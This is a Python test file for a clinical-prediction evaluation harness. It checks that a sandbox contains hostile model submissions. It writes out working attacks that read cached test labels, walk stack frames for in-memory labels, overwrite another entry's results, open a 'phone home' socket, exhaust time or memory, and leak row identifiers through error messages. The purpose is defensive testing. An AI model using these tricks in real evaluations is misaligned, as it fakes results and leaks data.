@@ -1,0 +1,270 @@
+"""Hostile submissions: each attack is contained by the sandbox and recorded as failed.
+
+Every attacker below is a working model plus one attack. The default (isolated) executor must
+stop the attack, record the unit as failed with a clear category, and leave every other result
+byte for byte as it was. Two attacks are also run in-process (``local``) to show they are real:
+there they read the test labels and score AUROC 1.0.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import socket
+import textwrap
+import threading
+from pathlib import Path
+
+import pytest
+
+from harness import config
+from harness.cli.main import main
+
+REPO = Path(__file__).resolve().parents[1]
+DATASET = config.DEFAULT_DATASET
+ARGS = ["--quick", "-t", "mortality_in_hospital", "-c", "base", "--encoder", "test_tiny",
+        "--max-epochs", "2", "--no-cross-cohort", "--scenario", "cxr_missing_mcar"]  # fmt: skip
+
+BASE_MODEL = """
+import glob, os, socket, sys, time
+import numpy as np
+import torch
+from torch import nn
+
+CACHE = {cache!r}
+PORT = {port!r}
+
+
+class Model(nn.Module):
+    def __init__(self, spec, hidden: int = 8):
+        super().__init__()
+        self.layer = nn.Linear(spec.ehr_summary_dim, hidden)
+        self.head = nn.Linear(hidden, 1)
+        {init}
+
+    def forward(self, batch):
+        {forward}
+        return self.head(torch.relu(self.layer(batch.ehr_summary)))[:, 0]
+"""
+
+ATTACKS = {
+    # read the cohort's labels from the cache on disk
+    "read_label_file": dict(
+        init="""
+        import pandas as pd
+        files = glob.glob(CACHE + "/cohorts/**/stays.parquet", recursive=True)
+        if not files:
+            raise FileNotFoundError("no cohort file visible under " + CACHE)
+        self.labels = pd.concat(pd.read_parquet(f) for f in files).drop_duplicates("stay_id")
+        self.labels = dict(zip(self.labels.stay_id, self.labels.mortality_in_hospital))
+        """,
+        forward="""
+        if not self.training:
+            y = torch.tensor([float(self.labels[int(s)]) for s in batch.stay_id])
+            return (y * 2 - 1) * 20
+        """,
+        category="sandbox_denied",
+    ),
+    # walk the caller's frames to the harness's in-memory labels of the test stays
+    "read_caller_frames": dict(
+        init="",
+        forward="""
+        if not self.training:
+            want = set(batch.stay_id.tolist())
+            frame = sys._getframe(1)
+            while frame is not None:
+                for value in list(frame.f_locals.values()):
+                    ids, y = getattr(value, "stay_id", None), getattr(value, "y", None)
+                    if ids is None or y is None or len(y) != len(ids):
+                        continue
+                    table = dict(zip(np.asarray(ids).tolist(), np.asarray(y).tolist()))
+                    if want <= set(table):
+                        lab = torch.tensor([float(table[s]) for s in batch.stay_id.tolist()])
+                        return (lab * 2 - 1) * 20
+                frame = frame.f_back
+            raise LookupError("test labels not reachable from the caller's frames")
+        """,
+        category="error",
+    ),
+    # overwrite another entry's result
+    "write_outside_scratch": dict(
+        init="""
+        target = CACHE + "/results/synthetic-default/ehr_lstm/result.json"
+        with open(target, "w") as fh:
+            fh.write("{}")
+        """,
+        forward="",
+        category="sandbox_denied",
+    ),
+    # phone home
+    "open_network_socket": dict(
+        init="""
+        socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"leak")
+        """,
+        forward="",
+        category="sandbox_denied",
+    ),
+    "sleep_forever": dict(init="", forward="time.sleep(10**6)", category="timeout"),
+    "allocate_without_bound": dict(
+        init="",
+        forward="""
+        hoard = []
+        while True:
+            hoard.append(b"x" * (64 << 20))
+        """,
+        category="memory",
+    ),
+    "sys_exit_zero": dict(init="", forward="sys.exit(0)", category="exited"),
+    "os_exit_zero": dict(init="", forward="os._exit(0)", category="exited"),
+    # publish (stay id, subject id, label) triples of the training set through an error message
+    "exfiltrate_through_exception": dict(
+        init="self.rows = []",
+        forward="""
+        if self.training:
+            self.rows = [str(int(s)) + "," + str(int(s) // 10) + ",1" for s in batch.stay_id]
+        else:
+            raise RuntimeError("rows: " + "; ".join(self.rows[:165]) + " at /work/secret/x")
+        """,
+        category="error",
+    ),
+}
+
+
+def _write_submission(folder: Path, name: str, init: str, forward: str, cache: Path, port: int,
+                      limits: str = "") -> Path:  # fmt: skip
+    folder.mkdir(parents=True)
+
+    def block(code: str) -> str:
+        return textwrap.indent(textwrap.dedent(code).strip(), " " * 8).lstrip() or "pass"
+
+    (folder / "model.py").write_text(
+        BASE_MODEL.format(cache=str(cache), port=port, init=block(init), forward=block(forward))
+    )
+    (folder / "submission.yaml").write_text(
+        f"name: {name}\nversion: 1\nkind: torch\nentry: model:Model\ninputs: [ehr_summary]\n"
+        f"train: {{max_epochs: 2}}\n{limits}"
+    )
+    return folder
+
+
+@pytest.fixture(scope="module")
+def cache(tmp_path_factory):
+    root = tmp_path_factory.mktemp("hostile-cache")
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("HARNESS_CACHE", str(root))
+        mp.delenv("HARNESS_EXECUTOR", raising=False)
+        assert main(["synth", "--n-patients", "300", "--image-size", "64"]) == 0
+        assert main(["cohort", "build"]) == 0
+        assert main(["encode", "-e", "test_tiny"]) == 0
+        assert main(["evaluate", "submissions/ehr_lstm", *ARGS]) == 0
+        yield root
+
+
+@pytest.fixture(scope="module")
+def listener():
+    """A TCP server on the host's loopback that records every connection it receives."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.2)
+    seen: list[bytes] = []
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            seen.append(conn.recv(100))
+            conn.close()
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], seen
+    stop.set()
+    thread.join()
+    server.close()
+
+
+def _digest_tree(root: Path) -> dict[str, str]:
+    return {
+        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(root.rglob("*"))
+        if p.is_file()
+    }
+
+
+def _result(cache: Path, name: str) -> dict:
+    return json.loads((cache / "results" / DATASET / name / "result.json").read_text())
+
+
+@pytest.mark.parametrize("attack", sorted(ATTACKS))
+def test_attack_is_contained_and_recorded(attack, cache, listener, tmp_path, monkeypatch):
+    monkeypatch.setenv("HARNESS_CACHE", str(cache))
+    monkeypatch.delenv("HARNESS_EXECUTOR", raising=False)
+    port, seen = listener
+    spec = ATTACKS[attack]
+    limits = ""
+    if attack == "sleep_forever":
+        limits = "limits: {unit_seconds: 6}\n"
+    if attack == "allocate_without_bound":
+        limits = "limits: {memory_mb: 1200}\n"
+    folder = _write_submission(
+        tmp_path / attack, attack, spec["init"], spec["forward"], cache, port, limits
+    )
+    reference = cache / "results" / DATASET / "ehr_lstm"
+    before = _digest_tree(reference)
+    assert main(["evaluate", str(folder), *ARGS]) == 2
+    record = _result(cache, attack)
+    assert record["status"] == "failed"
+    assert record["category"] == spec["category"], record
+    assert _digest_tree(reference) == before  # no other result changed
+    assert seen == []  # nothing reached the host's network
+    if attack == "exfiltrate_through_exception":
+        assert main(["leaderboard"]) == 0
+        from harness.cohort import load_cohort
+
+        ids = load_cohort("base").stays["stay_id"].astype(str)
+        for path in (cache / "leaderboard").iterdir():
+            text = path.read_text()
+            assert not any(sid in text for sid in ids), path.name
+            assert "/work/secret" not in text
+
+
+@pytest.mark.parametrize("attack", ["read_label_file", "read_caller_frames"])
+def test_the_label_attacks_are_real_in_process(attack, cache, listener, tmp_path, monkeypatch):
+    """Run trusted (in-process) the same attackers read the test labels: AUROC 1.0."""
+    monkeypatch.setenv("HARNESS_CACHE", str(cache))
+    spec = ATTACKS[attack]
+    name = f"{attack}_trusted"
+    folder = _write_submission(tmp_path / name, name, spec["init"], spec["forward"], cache, 0)
+    assert main(["evaluate", str(folder), *ARGS, "--trusted"]) == 0
+    auroc = _result(cache, name)["tasks"]["mortality_in_hospital"]["base"]["metrics"]["auroc"]
+    assert auroc["value"] == pytest.approx(1.0)
+
+
+def test_a_reference_name_cannot_be_claimed(cache, tmp_path, monkeypatch, capsys):
+    monkeypatch.setenv("HARNESS_CACHE", str(cache))
+    folder = _write_submission(tmp_path / "impostor", "ehr_lstm", "", "", cache, 0)
+    reference = cache / "results" / DATASET / "ehr_lstm"
+    before = _digest_tree(reference)
+    assert main(["evaluate", str(folder), *ARGS]) == 2
+    assert "reserved for the reference submission" in " ".join(capsys.readouterr().err.split())
+    assert main(["evaluate", str(folder), *ARGS, "--replace"]) == 2  # not even with --replace
+    assert _digest_tree(reference) == before
+
+
+def test_an_entry_belongs_to_its_first_folder(cache, tmp_path, monkeypatch, capsys):
+    monkeypatch.setenv("HARNESS_CACHE", str(cache))
+    first = _write_submission(tmp_path / "a" / "mine", "mine", "", "", cache, 0)
+    second = _write_submission(tmp_path / "b" / "mine", "mine", "", "", cache, 0)
+    assert main(["evaluate", str(first), *ARGS]) == 0
+    entry = cache / "results" / DATASET / "mine"
+    before = _digest_tree(entry)
+    assert main(["evaluate", str(second), *ARGS]) == 2
+    assert "already belongs to another submission folder" in " ".join(
+        capsys.readouterr().err.split()
+    )
+    assert _digest_tree(entry) == before
+    assert main(["evaluate", str(second), *ARGS, "--replace"]) == 0
